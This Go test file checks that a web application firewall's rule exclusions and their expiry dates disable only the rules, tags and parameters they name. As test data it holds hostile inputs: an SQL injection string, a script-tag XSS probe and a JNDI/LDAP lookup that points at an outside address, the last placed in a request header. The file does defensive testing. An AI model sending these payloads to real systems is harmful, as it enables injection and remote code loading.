// Copyright The Durward Authors.
// SPDX-License-Identifier: Apache-2.0

package waf

import (
	"testing"
	"time"

	"durward/waf/gate"
)

const attack = "1' OR 1=1--"

func TestExclusionsTakeAwayWhatTheySayAndNoMore(t *testing.T) {
	exclude := func(e Exclusion) Config { return Config{Exclusions: []Exclusion{e}} }
	sqli := []string{"942000-942999"}
	header := get("")
	header.Header.Add("X-Foo", "${jndi:ldap://198.51.100.9/a}")
	cookie := get("")
	cookie.Header.Add("Cookie", "sid=1'%20OR%201=1--")
	for name, c := range map[string]struct {
		e       Exclusion
		passes  []*gate.Request
		refused []*gate.Request
	}{
		"a rule": {
			Exclusion{Rules: []string{"942100"}},
			[]*gate.Request{get("q=" + injection)},
			[]*gate.Request{get("q=%3Cscript%3Ealert(1)%3C/script%3E")},
		},
		"a tag": {
			Exclusion{Tags: []string{"attack-sqli"}},
			[]*gate.Request{get("q=" + injection)},
			[]*gate.Request{get("q=%3Cscript%3Ealert(1)%3C/script%3E")},
		},
		"another operation": {
			Exclusion{Rules: sqli, Operations: []string{"z"}},
			nil,
			[]*gate.Request{get("q=" + injection)},
		},
		"a parameter of the query": {
			Exclusion{Rules: sqli, Parameters: []string{"query.q"}},
			[]*gate.Request{get("q=" + injection)},
			[]*gate.Request{
				get("p=" + injection),
				put("application/x-www-form-urlencoded", "q="+injection),
			},
		},
		"a field of a form": {
			Exclusion{Rules: sqli, Parameters: []string{"body.text"}},
			[]*gate.Request{put("application/x-www-form-urlencoded", "text="+injection), put("application/json", `{"text":"`+attack+`"}`)},
			[]*gate.Request{get("text=" + injection), put("application/json", `{"title":"`+attack+`"}`), get("json.text=" + injection)},
		},
		"a member of items": {
			Exclusion{Rules: sqli, Parameters: []string{"body.items.*.text"}},
			[]*gate.Request{put("application/json", `{"items":[{"text":"a"},{"text":"`+attack+`"}]}`)},
			[]*gate.Request{
				put("application/json", `{"items":[{"title":"`+attack+`"}]}`),
				put("application/json", `{"items":[{"a":{"text":"`+attack+`"}}]}`),
				get("json.items.0.text=" + injection),
			},
		},
		"a tag for a parameter": {
			Exclusion{Tags: []string{"attack-sqli"}, Parameters: []string{"query.q"}},
			[]*gate.Request{get("q=" + injection)},
			[]*gate.Request{get("p=" + injection)},
		},
		"a header": {
			Exclusion{Rules: []string{"944000-944999", "932000-932999"}, Parameters: []string{"header.X-Foo"}},
			[]*gate.Request{header},
			[]*gate.Request{get("q=$%7Bjndi:ldap://198.51.100.9/a%7D")},
		},
		"a cookie": {
			Exclusion{Rules: sqli, Parameters: []string{"cookie.sid"}},
			[]*gate.Request{cookie},
			[]*gate.Request{get("sid=" + injection)},
		},
	} {
		e, d := compiled(t, nil, exclude(c.e))
		s := d[0].settingsAt(noon)
		for i, r := range c.passes {
			if v := inspect(t, e, r, s); v.Interrupted {
				t.Errorf("%s: request %d is refused: %+v", name, i, v)
			}
		}
		for i, r := range c.refused {
			if v := inspect(t, e, r, s); !v.Interrupted {
				t.Errorf("%s: request %d passes", name, i)
			}
		}
	}
}

// A parameter that is in both places is looked at: else who knows of the
// exclusion could hide an attack on the other one behind it.
func TestAnExclusionForTheQueryDoesNotHoldForTheSameNameInAForm(t *testing.T) {
	e, d := compiled(t, nil, Config{Exclusions: []Exclusion{{Rules: []string{"942000-942999"}, Parameters: []string{"query.q"}}}})
	both := put("application/x-www-form-urlencoded", "q="+injection)
	both.URI += "?q=harmless"
	if v := inspect(t, e, both, d[0].settingsAt(noon)); !v.Interrupted {
		t.Errorf("%+v", v)
	}
}

func TestAnExclusionEndsWithItsDay(t *testing.T) {
	cfg := Config{Exclusions: []Exclusion{
		{Rules: []string{"942100"}, Until: "2026-11-30"},
		{Rules: []string{"941000-941999"}, Until: "2026-12-31"},
		{Rules: []string{"932000-932999"}, Until: "2026-11-21"}, // over
	}}
	e, d := compiled(t, nil, cfg)
	at := func(day string) *Settings {
		when, err := time.Parse(time.RFC3339, day)
		if err != nil {
			t.Fatal(err)
		}
		return d[0].settingsAt(when)
	}
	sqli, xss := get("q="+injection), get("q=%3Cscript%3Ealert(1)%3C/script%3E")
	for _, c := range []struct {
		when      string
		sqli, xss bool // refused
	}{
		{"2026-11-22T12:00:00Z", false, false},
		{"2026-11-30T23:59:59Z", false, false},
		{"2026-12-01T00:00:00Z", true, false},
		{"2027-01-01T00:00:00Z", true, true},
	} {
		if v := inspect(t, e, sqli, at(c.when)); v.Interrupted != c.sqli {
			t.Errorf("%s: injection: %+v", c.when, v)
		}
		if v := inspect(t, e, xss, at(c.when)); v.Interrupted != c.xss {
			t.Errorf("%s: script: %+v", c.when, v)
		}
	}
	if len(d[0].spans) != 3 {
		t.Errorf("%d spans, want 3: what is over at load is left out", len(d[0].spans))
	}
}

func TestOperationsWithTheSameExclusionsShareAProfile(t *testing.T) {
	same := Config{Exclusions: []Exclusion{{Rules: []string{"942100"}, Reason: "one"}}}
	other := Config{Exclusions: []Exclusion{{Rules: []string{"942100"}, Reason: "another reason"}}}
	_, d := compiled(t, nil, Config{}, same, other, Config{Exclusions: []Exclusion{{Rules: []string{"942110"}}}})
	got := []int{d[0].profileAt(noon), d[1].profileAt(noon), d[2].profileAt(noon), d[3].profileAt(noon)}
	if got[0] != 0 || got[1] != 1 || got[2] != 1 || got[3] != 2 {
		t.Errorf("profiles %v", got)
	}
}
